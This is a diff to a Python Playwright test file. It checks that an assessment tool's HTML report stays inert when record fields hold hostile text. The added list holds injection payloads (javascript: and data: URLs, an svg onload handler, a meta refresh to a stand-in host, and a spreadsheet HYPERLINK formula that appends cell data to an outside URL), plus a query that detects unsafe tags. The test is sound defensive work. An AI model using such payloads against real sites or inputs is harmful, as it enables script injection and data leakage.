@@ -2,17 +2,23 @@
 
 from __future__ import annotations
 
-from typing import TYPE_CHECKING
+from datetime import date
+from typing import TYPE_CHECKING, Any
 
 import pytest
 from playwright.sync_api import expect
 
+from assessment import record as record_format
+from assessment.report import report
 from tests.browser.tool_page import ToolPage
+from tests.builders import HOSTILE
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
     from playwright.sync_api import Browser, Page
+
+    from assessment.model import QuestionSet
 
 # Stands in for the tool's worker, started by the tool in the same way: JavaScript, then Python, try to reach
 # another origin, and what came of it is told as the cause of a failure.
@@ -86,3 +92,57 @@ def test_the_page_itself_reaches_no_other_origin_and_runs_no_text(window: Page, 
     tool.page.evaluate("() => { setTimeout('window.ran = true'); }")
     tool.page.wait_for_timeout(200)
     assert tool.page.evaluate("() => window.ran") is None
+
+
+# What somebody might put into a record to make the report do something: a field may only stand there.
+HOSTILE_TEXTS = (
+    HOSTILE,
+    "javascript:document.title='ran'",
+    "data:text/html,<script>document.title='ran'</script>",
+    '=HYPERLINK("http://elsewhere.test/"&A1)',
+    "<svg/onload=\"document.title='ran'\"><a href=javascript:document.title='ran'>here</a>",
+    "<meta http-equiv=refresh content='0;url=http://elsewhere.test/'><base href=http://elsewhere.test/>",
+    "\u202eright to left \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
+    "long" * 5_000,
+)
+
+TOO_WIDE = """() => [...document.querySelectorAll("body *")]
+  .filter((one) => one.getBoundingClientRect().right > innerWidth + 1 && !one.closest("svg"))
+  .map((one) => `${one.tagName} ${one.className}`)"""
+UNSAFE = r"""() => [...document.querySelectorAll("*")].filter((one) =>
+  ["SCRIPT", "IFRAME", "OBJECT", "BASE", "FORM", "IMG"].includes(one.tagName) ||
+  one.getAttributeNames().some((name) => name.startsWith("on")) ||
+  /^\s*(javascript|data:text.html)/i.test(one.getAttribute("href") ?? "")
+).map((one) => one.outerHTML)"""
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
+def test_a_report_of_a_hostile_record_runs_nothing_and_asks_for_nothing(
+    window: Page, sample_data: dict[str, Any], question_set: QuestionSet, text: str
+) -> None:
+    """Opened with scripts allowed, so that it is the report that holds them off."""
+    sample_data["partnership"]["name"] = text
+    sample_data["partnership"]["words"] = dict.fromkeys(question_set.words, text[:200])
+    sample_data["rounds"][0]["name"] = text
+    for answer in sample_data["rounds"][0]["answers"].values():
+        answer["note"] = text
+    sample_data["rounds"][0]["answers"][text] = {"rating": "red", "note": text}
+    made = report(question_set, record_format.from_data(sample_data), date(2027, 3, 31))
+    asked: list[str] = []
+    dialogs: list[str] = []
+    window.on("request", lambda request: asked.append(request.url))
+    window.on("dialog", lambda dialog: dialogs.append(dialog.message))
+    window.route(
+        "http://report.test/*", lambda route: route.fulfill(body=made.html, content_type="text/html")
+    )
+    window.goto("http://report.test/report")
+    window.wait_for_timeout(200)
+    assert window.url == "http://report.test/report"
+    assert asked == ["http://report.test/report"]
+    assert not dialogs
+    assert window.title() != "ran"
+    unsafe = window.evaluate(UNSAFE)
+    assert not unsafe
+    # However long a word is, the page does not become wider than the screen.
+    assert not window.evaluate(TOO_WIDE)
+    assert window.evaluate("() => document.body.textContent").count(text) > len(question_set.questions)
